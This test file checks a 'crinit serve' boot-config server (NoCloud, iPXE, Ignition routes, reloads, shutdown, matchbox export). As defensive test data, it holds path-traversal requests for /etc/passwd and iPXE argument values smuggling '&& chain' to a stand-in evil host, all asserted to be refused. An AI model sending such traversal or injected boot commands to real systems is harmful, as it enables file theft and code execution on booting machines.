/**
 * crinit serve, answered over real HTTP on loopback: NoCloud and iPXE routes, /healthz, unknown
 * machines, traversal attempts, a SIGHUP reload under a bounded load (loopback only), and a
 * SIGTERM that a half-sent request cannot hold up.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { CLI, ROOT, runCli, tempDir, writeTemp } from './helpers.js';

const PROFILE = readFileSync(join(ROOT, 'examples/terraform/node.yaml'), 'utf8');
const inventory = (ip: string) =>
  [
    'defaults:',
    '  profile: node.yaml',
    '  boot: {kernel: "http://10.0.0.1/vmlinuz", initrd: "http://10.0.0.1/initrd.img", args: "console=ttyS0"}',
    'nodes:',
    `  - {name: worker-1, mac: "52:54:00:00:00:01", vars: {hostname: worker-1, node_ip: ${ip}}}`,
    '  - {name: plain, mac: "52:54:00:00:00:02", profile: debian-12/containerd}',
    '',
  ].join('\n');

let child: ChildProcess | undefined;
afterEach(() => {
  child?.kill('SIGTERM');
  child = undefined;
});

function raw(base: string, path: string): Promise<{ status: number; body: string }> {
  const u = new URL(base);
  return new Promise((resolve, reject) => {
    const req = request({ host: u.hostname, port: u.port, path, method: 'GET' }, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => (body += d.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

async function start(dir: string, extra: readonly string[] = []): Promise<{ base: string; log: () => string }> {
  let log = '';
  child = spawn(process.execPath, [CLI, 'serve', '--inventory', 'nodes.yaml', '--listen', '127.0.0.1:0', ...extra], { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
  child.stderr!.on('data', (d: Buffer) => (log += d.toString()));
  for (let i = 0; i < 100 && !/http:\/\/127\.0\.0\.1:\d+\//.test(log); i++) await new Promise((r) => setTimeout(r, 50));
  const port = /http:\/\/127\.0\.0\.1:(\d+)\//.exec(log)?.[1];
  if (!port) throw new Error(`serve did not start: ${log}`);
  return { base: `http://127.0.0.1:${port}`, log: () => log };
}

describe('crinit serve', () => {
  it('answers the NoCloud and iPXE routes for known machines, 404 for the rest, and logs each request', async () => {
    const dir = tempDir();
    writeTemp(dir, 'node.yaml', PROFILE);
    writeTemp(dir, 'nodes.yaml', inventory('10.0.0.11'));
    const { base, log } = await start(dir);
    const direct = runCli(['render', 'node.yaml', '--var', 'hostname=worker-1', '--var', 'node_ip=10.0.0.11'], { cwd: dir }).stdout;
    for (const mac of ['52:54:00:00:00:01', '52-54-00-00-00-01', '52:54:00:00:00:01'.toUpperCase()]) {
      const r = await fetch(`${base}/nocloud/${mac}/user-data`);
      expect(r.status).toBe(200);
      expect(await r.text()).toBe(direct);
    }
    expect(await (await fetch(`${base}/nocloud/52:54:00:00:00:01/meta-data`)).text()).toBe('instance-id: worker-1\nlocal-hostname: worker-1\n');
    const vendor = await fetch(`${base}/nocloud/52:54:00:00:00:01/vendor-data`);
    expect([vendor.status, await vendor.text()]).toEqual([200, '']);
    expect(await (await fetch(`${base}/nocloud/52:54:00:00:00:02/user-data`)).text()).toBe(runCli(['render', 'debian-12/containerd']).stdout);
    expect(await (await fetch(`${base}/boot.ipxe`)).text()).toBe('#!ipxe\nchain /ipxe?mac=${mac:hexhyp}\n');
    const ipxe = await (await fetch(`${base}/ipxe?mac=52-54-00-00-00-01`)).text();
    expect(ipxe).toBe(`#!ipxe\nkernel http://10.0.0.1/vmlinuz console=ttyS0 ds=nocloud-net;s=http://${base.slice(7)}/nocloud/52:54:00:00:00:01/\ninitrd http://10.0.0.1/initrd.img\nboot\n`);

    // Sent as raw request targets (fetch would normalize the dot segments away first).
    for (const path of ['/nocloud/52:54:00:00:00:09/user-data', '/ipxe?mac=52-54-00-00-00-09', '/nocloud/../../etc/passwd', '/nocloud/52:54:00:00:00:01/../../../etc/passwd', '/nocloud/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc/passwd', '/node.yaml', '/nodes.yaml', '/']) {
      const r = await raw(base, path);
      expect(r.status, path).toBe(404);
      expect(r.body).not.toContain('root:');
    }
    expect((await fetch(`${base}/boot.ipxe`, { method: 'POST' })).status).toBe(405);
    await new Promise((r) => setTimeout(r, 100));
    expect(log()).toContain('GET /nocloud/52:54:00:00:00:09/user-data 404 -');
    expect(log()).toContain('GET /nocloud/52:54:00:00:00:01/user-data 200 worker-1');
  });

  it('reloads on SIGHUP under load without dropping a request, and keeps the old inventory when the new one is bad', async () => {
    const dir = tempDir();
    writeTemp(dir, 'node.yaml', PROFILE);
    writeTemp(dir, 'nodes.yaml', inventory('10.0.0.11'));
    const { base, log } = await start(dir);
    const url = `${base}/nocloud/52:54:00:00:00:01/user-data`;
    const statuses: number[] = [];
    const bodies = new Set<string>();
    let slowest = 0;
    let signalled = false;
    // A bounded load on loopback: 5 clients, until a response shows the reload (in a worker
    // thread) has landed and each client has made 60 requests, and never more than 3,000 requests
    // in all. (Stopping at the log line instead let every client stop before its first request
    // after the swap.)
    const client = async () => {
      for (let i = 0; i < 600 && (i < 60 || !bodies.has('10.0.0.99')); i++) {
        const t = performance.now();
        const r = await fetch(url);
        statuses.push(r.status);
        const body = await r.text();
        slowest = Math.max(slowest, performance.now() - t);
        bodies.add(/NODE_IP=(\S+)/.exec(body)?.[1] ?? '?');
        if (!signalled && statuses.length > 100) {
          signalled = true;
          writeFileSync(join(dir, 'nodes.yaml'), inventory('10.0.0.99'));
          child!.kill('SIGHUP');
        }
      }
    };
    await Promise.all([client(), client(), client(), client(), client()]);
    expect(statuses.length).toBeGreaterThanOrEqual(300);
    expect(statuses.every((s) => s === 200)).toBe(true);
    // The reload runs off the request path: every request is answered within a second meanwhile.
    expect(slowest).toBeLessThan(1000);
    expect(bodies).toEqual(new Set(['10.0.0.11', '10.0.0.99']));
    expect(await (await fetch(url)).text()).toContain('NODE_IP=10.0.0.99');
    expect(log()).toContain('reloaded nodes.yaml: 2 machines');

    writeFileSync(join(dir, 'nodes.yaml'), 'nodes:\n  - {name: bad, mac: "nope", profile: node.yaml}\n');
    child!.kill('SIGHUP');
    for (let i = 0; i < 50 && !log().includes('kept the previous inventory'); i++) await new Promise((r) => setTimeout(r, 50));
    expect(log()).toMatch(/nodes\.yaml:2:5: error E-INVENTORY: the MAC address of bad is not valid/);
    expect(log()).toContain('kept the previous inventory: nodes.yaml has errors');
    expect(await (await fetch(url)).text()).toContain('NODE_IP=10.0.0.99');
  });

  it('answers /healthz, and points iPXE at --public-url instead of the Host it was asked by', async () => {
    const dir = tempDir();
    writeTemp(dir, 'node.yaml', PROFILE);
    writeTemp(dir, 'nodes.yaml', inventory('10.0.0.11'));
    const { base } = await start(dir, ['--public-url', 'http://boot.example.com:8080/']);
    const health = await fetch(`${base}/healthz`);
    expect([health.status, await health.text()]).toEqual([200, 'ok 2 machines\n']);
    const ipxe = await (await fetch(`${base}/ipxe?mac=52-54-00-00-00-01`)).text();
    expect(ipxe).toContain(' ds=nocloud-net;s=http://boot.example.com:8080/nocloud/52:54:00:00:00:01/\n');
    const bad = runCli(['serve', '--inventory', 'nodes.yaml', '--public-url', 'http://x/ && chain http://evil/'], { cwd: dir });
    expect(bad.status).toBe(2);
    expect(bad.stderr).toContain('error: --public-url takes http(s)://HOST[:PORT]');
  });

  it('SIGTERM closes a connection that sent half a request within a few seconds', async () => {
    const dir = tempDir();
    writeTemp(dir, 'nodes.yaml', 'nodes:\n  - {name: a, mac: "52:54:00:00:00:01", profile: debian-12/containerd}\n');
    const { base } = await start(dir);
    const { connect } = await import('node:net');
    const u = new URL(base);
    const sock = connect(Number(u.port), u.hostname);
    await new Promise((r) => sock.once('connect', r));
    sock.write('GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n');
    sock.on('error', () => undefined);
    const exited = new Promise<number>((resolve) => child!.once('exit', () => resolve(performance.now())));
    const t = performance.now();
    child!.kill('SIGTERM');
    const done = await exited;
    child = undefined;
    sock.destroy();
    expect(done - t).toBeLessThan(6000);
  });

  it('refuses a boot entry that holds iPXE syntax (&&), which would run commands on every machine that boots', () => {
    const dir = tempDir();
    writeTemp(dir, 'nodes.yaml', 'nodes:\n  - {name: a, mac: "52:54:00:00:00:01", profile: debian-12/containerd, boot: {kernel: "http://10.0.0.1/vmlinuz", initrd: "http://10.0.0.1/initrd", args: "console=ttyS0 && chain http://evil.example.com/x"}}\n');
    const r = runCli(['serve', '--inventory', 'nodes.yaml', '--listen', '127.0.0.1:0'], { cwd: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain("nodes.yaml:2:5: error E-INVENTORY: the boot entry of a is not valid");
    expect(r.stderr).toContain("iPXE's own syntax");
  });

  it('a port past 65535 is a usage error (exit 2), not an internal one', () => {
    const dir = tempDir();
    writeTemp(dir, 'nodes.yaml', 'nodes:\n  - {name: a, profile: debian-12/containerd}\n');
    const r = runCli(['serve', '--inventory', 'nodes.yaml', '--listen', '127.0.0.1:99999'], { cwd: dir });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('error: --listen takes host:port');
    expect(r.stderr).not.toContain('E-INTERNAL');
  });

  it('refuses a bad inventory at start with line:col, exit 1', () => {
    const dir = tempDir();
    writeTemp(dir, 'nodes.yaml', 'nodes:\n  - {name: a, mac: "52:54:00:00:00:01"}\n');
    const r = runCli(['serve', '--inventory', 'nodes.yaml', '--listen', '127.0.0.1:0'], { cwd: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('nodes.yaml:2:5: error E-INVENTORY: node a names no profile');
  });
});

describe('crinit serve with Ignition machines', () => {
  it('serves /ignition?mac= with the rendered config and boots FCOS and Flatcar with their own arguments', async () => {
    const dir = tempDir();
    writeTemp(
      dir,
      'nodes.yaml',
      [
        'defaults:',
        '  boot: {kernel: "http://10.0.0.1/vmlinuz", initrd: "http://10.0.0.1/initrd.img", args: "console=ttyS0"}',
        'nodes:',
        '  - {name: fc-1, mac: "52:54:00:00:00:0a", profile: flatcar/containerd}',
        '  - {name: fcos-1, mac: "52:54:00:00:00:0b", profile: fcos/containerd}',
        '  - {name: deb-1, mac: "52:54:00:00:00:0c", profile: debian-12/containerd}',
        '',
      ].join('\n'),
    );
    const { base, log } = await start(dir);
    const ign = await raw(base, '/ignition?mac=52-54-00-00-00-0A');
    expect(ign.status).toBe(200);
    expect(ign.body).toBe(runCli(['render', 'flatcar/containerd']).stdout);
    // Each machine gets only the format its OS reads.
    expect((await raw(base, '/nocloud/52:54:00:00:00:0a/user-data')).status).toBe(404);
    expect((await raw(base, '/ignition?mac=52:54:00:00:00:0c')).status).toBe(404);
    expect((await raw(base, '/ignition?mac=52:54:00:00:00:ff')).status).toBe(404);
    const fc = await raw(base, '/ipxe?mac=52-54-00-00-00-0a');
    expect(fc.body).toMatch(new RegExp(`^kernel http://10\\.0\\.0\\.1/vmlinuz console=ttyS0 flatcar\\.config\\.url=${base.replace(/[.]/g, '\\.')}/ignition\\?mac=52:54:00:00:00:0a flatcar\\.first_boot=yes$`, 'm'));
    const fcos = await raw(base, '/ipxe?mac=52-54-00-00-00-0b');
    expect(fcos.body).toMatch(/ ignition\.config\.url=http:\/\/127\.0\.0\.1:\d+\/ignition\?mac=52:54:00:00:00:0b ignition\.firstboot ignition\.platform\.id=metal$/m);
    expect(log()).toMatch(/GET \/ignition\?mac=52-54-00-00-00-0A 200 fc-1/);
  });

  it('render --inventory writes NAME.ign for Ignition machines and NAME.user-data for the rest', () => {
    const dir = tempDir();
    writeTemp(dir, 'nodes.yaml', 'nodes:\n  - {name: a, profile: fcos/containerd}\n  - {name: b, profile: ubuntu-24.04/containerd}\n');
    const r = runCli(['render', '--inventory', 'nodes.yaml', '-o', 'out'], { cwd: dir });
    expect(r.status, r.stderr).toBe(0);
    expect(readFileSync(join(dir, 'out', 'a.ign'), 'utf8')).toBe(runCli(['render', 'fcos/containerd']).stdout);
    expect(readFileSync(join(dir, 'out', 'b.user-data'), 'utf8')).toMatch(/^#cloud-config/);
  });
});

describe('crinit export matchbox', () => {
  const nodes = [
    'defaults:',
    '  boot: {kernel: "http://m.example.com/assets/fedora-coreos/kernel", initrd: "http://m.example.com/assets/fedora-coreos/initramfs.img", args: "initrd=initramfs.img console=ttyS0"}',
    'nodes:',
    '  - {name: fcos-1, mac: "52:54:00:00:00:21", profile: fcos/containerd}',
    '  - {name: fc-1, mac: "52:54:00:00:00:22", profile: flatcar/containerd}',
    '',
  ].join('\n');

  it('writes a profile, a group selected by MAC and the Ignition config per machine', () => {
    const dir = tempDir();
    writeTemp(dir, 'nodes.yaml', nodes);
    const r = runCli(['export', 'matchbox', '--inventory', 'nodes.yaml', '-o', 'data', '--matchbox-url', 'http://matchbox.example.com:8080'], { cwd: dir });
    expect(r.status, r.stderr).toBe(0);
    const read = (p: string) => JSON.parse(readFileSync(join(dir, 'data', p), 'utf8')) as Record<string, unknown>;
    expect(read('groups/fcos-1.json')).toEqual({ id: 'fcos-1', name: 'fcos-1', profile: 'fcos-1', selector: { mac: '52:54:00:00:00:21' } });
    expect(read('profiles/fcos-1.json')).toEqual({
      id: 'fcos-1',
      name: 'fcos-1',
      ignition_id: 'fcos-1.ign',
      boot: {
        kernel: 'http://m.example.com/assets/fedora-coreos/kernel',
        initrd: ['http://m.example.com/assets/fedora-coreos/initramfs.img'],
        args: ['initrd=initramfs.img', 'console=ttyS0', 'ignition.config.url=http://matchbox.example.com:8080/ignition?mac=${mac:hexhyp}', 'ignition.firstboot', 'ignition.platform.id=metal'],
      },
    });
    expect((read('profiles/fc-1.json').boot as { args: string[] }).args).toContain('flatcar.config.url=http://matchbox.example.com:8080/ignition?mac=${mac:hexhyp}');
    expect(readFileSync(join(dir, 'data', 'ignition', 'fc-1.ign'), 'utf8')).toBe(runCli(['render', 'flatcar/containerd']).stdout);
  });

  it('refuses cloud-init machines and configs newer than matchbox reads, writing nothing', () => {
    const dir = tempDir();
    writeTemp(dir, 'n.yaml', 'extends: fcos/containerd\nignition:\n  version: "3.5.0"\n');
    writeTemp(dir, 'nodes.yaml', 'nodes:\n  - {name: a, mac: "52:54:00:00:00:31", profile: debian-12/containerd}\n  - {name: b, mac: "52:54:00:00:00:32", profile: n.yaml}\n');
    const r = runCli(['export', 'matchbox', '--inventory', 'nodes.yaml', '-o', 'data', '--matchbox-url', 'http://m:8080'], { cwd: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/nodes\.yaml:2:5: error E-INVENTORY: a is provisioned by cloud-init/);
    expect(r.stderr).toMatch(/nodes\.yaml:3:5: error E-INVENTORY: b's Ignition config is spec 3\.5\.0, newer than matchbox reads/);
    expect(existsSync(join(dir, 'data'))).toBe(false);
  });
});
